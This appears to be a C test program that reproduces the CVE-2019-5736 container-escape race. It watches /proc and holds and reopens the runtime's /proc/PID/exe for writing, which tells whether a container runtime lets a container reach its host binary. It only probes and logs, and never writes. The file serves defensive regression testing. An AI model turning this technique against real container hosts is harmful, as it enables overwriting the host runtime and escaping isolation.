/* exe_attacker: the CVE-2019-5736 attack, run as pid 1 of a test container.
 *
 * The host runs `cryo exec ID /evil` where /evil starts with "#!/proc/self/exe", so the
 * runtime's own binary is executed inside the container. This program watches /proc for new
 * processes, keeps an O_PATH fd on each one's /proc/PID/exe and keeps trying to reopen it for
 * writing (directly and through /proc/self/fd/N once the process is gone, as the exploit did).
 * A write-open of a file whose device:inode is listed in /target.ids (the host's runtime
 * binaries) is the vulnerability. /control.ids lists a container binary the test runs as a
 * positive control: write-opens of it are counted apart, proving the watcher can catch one.
 * Nothing is ever written: opens use O_APPEND and are closed at once.
 * It stops when /tmp/stop appears (or after 180 s) and writes a summary to /tmp/attack.log:
 *   seen=N held=N reopened=N vulnerable=N control=N, then one line per held fd and write-open.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256
#define MAX_SEEN 65536
#define MAX_TARGETS 16

static struct {
    int fd;
    int pid;
    char link[256];
    int reported;
} held[MAX_HELD];
static int n_held;
static unsigned char seen_pid[MAX_SEEN];
static int n_seen, n_reopened, n_vulnerable;
struct id_list {
    unsigned long long dev[MAX_TARGETS], ino[MAX_TARGETS];
    int n;
};
static struct id_list targets, controls;
static int n_control;
static FILE* report;

static void read_ids(char const* path, struct id_list* list)
{
    FILE* f = fopen(path, "r");
    if (!f)
        return;
    while (list->n < MAX_TARGETS && fscanf(f, "%llu:%llu", &list->dev[list->n], &list->ino[list->n]) == 2)
        list->n++;
    fclose(f);
}

static int in_list(int fd, const struct id_list* list)
{
    struct stat st;
    if (fstat(fd, &st) != 0)
        return 0;
    for (int i = 0; i < list->n; i++)
        if ((unsigned long long)st.st_dev == list->dev[i] && (unsigned long long)st.st_ino == list->ino[i])
            return 1;
    return 0;
}

static void try_write_open(char const* path, int pid, char const* how, char const* link)
{
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0)
        return;
    n_reopened++;
    int vulnerable = in_list(fd, &targets);
    int control = in_list(fd, &controls);
    n_vulnerable += vulnerable;
    n_control += control;
    fprintf(report, "%s pid=%d %s %s\n",
            vulnerable    ? "VULNERABLE"
                : control ? "control"
                          : "write-open",
            pid, how, link);
    close(fd);
}

int main(void)
{
    report = tmpfile();
    read_ids("/target.ids", &targets);
    read_ids("/control.ids", &controls);
    close(open("/tmp/ready", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    time_t deadline = time(NULL) + 180;
    while (access("/tmp/stop", F_OK) != 0 && time(NULL) < deadline) {
        DIR* proc = opendir("/proc");
        struct dirent* entry;
        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid >= MAX_SEEN || pid == getpid())
                continue;
            /* seen_pid: 0 never seen, 1 seen, 2 seen and its exe held. A process's exe can be
             * out of reach at first (a runtime makes itself non-dumpable until it execs) and
             * can change (runtime, then trampoline, then the target): keep looking, and hold
             * each new exe. */
            if (seen_pid[pid] == 0) {
                n_seen++;
                seen_pid[pid] = 1;
            }
            char path[64], link[256] = "";
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (seen_pid[pid] == 2) {
                ssize_t n = readlink(path, link, sizeof link - 1);
                link[n > 0 ? n : 0] = 0;
                int same = 0;
                for (int i = n_held - 1; i >= 0 && !same; i--)
                    if (held[i].pid == pid)
                        same = strcmp(held[i].link, link) == 0 || n <= 0;
                if (same)
                    continue;
            }
            try_write_open(path, pid, "direct", "");
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0 || n_held == MAX_HELD) {
                if (fd >= 0)
                    close(fd);
                continue;
            }
            char fd_path[64];
            snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(fd_path, link, sizeof link - 1);
            link[n > 0 ? n : 0] = 0;
            seen_pid[pid] = 2;
            held[n_held].fd = fd;
            held[n_held].pid = pid;
            strcpy(held[n_held].link, link);
            n_held++;
        }
        if (proc)
            closedir(proc);
        for (int i = 0; i < n_held; i++) {
            if (held[i].reported)
                continue;
            char fd_path[64];
            snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", held[i].fd);
            int before = n_reopened;
            try_write_open(fd_path, held[i].pid, "via-fd", held[i].link);
            held[i].reported = n_reopened != before;
        }
        usleep(500);
    }
    FILE* out = fopen("/tmp/attack.log", "w");
    if (!out)
        return 1;
    fprintf(out, "seen=%d held=%d reopened=%d vulnerable=%d control=%d targets=%d\n", n_seen, n_held, n_reopened,
            n_vulnerable, n_control, targets.n);
    for (int i = 0; i < n_held; i++)
        fprintf(out, "held pid=%d %s\n", held[i].pid, held[i].link);
    rewind(report);
    char line[512];
    while (fgets(line, sizeof line, report))
        fputs(line, out);
    fclose(out);
    return 0;
}
